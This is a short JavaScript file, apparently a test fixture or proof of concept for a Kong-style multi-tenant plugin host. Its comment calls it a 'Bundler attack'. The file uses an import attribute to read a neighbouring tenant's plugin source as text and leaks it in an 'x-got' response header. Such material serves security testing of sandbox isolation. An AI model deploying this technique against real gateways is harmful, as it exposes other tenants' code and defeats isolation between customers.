// Bundler attack: another tenant's plugin source as text, by import attribute.
import stolen from './neighbour.js' with { type: 'text' };
export class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
  }
}
export const Version = '1.0.0';
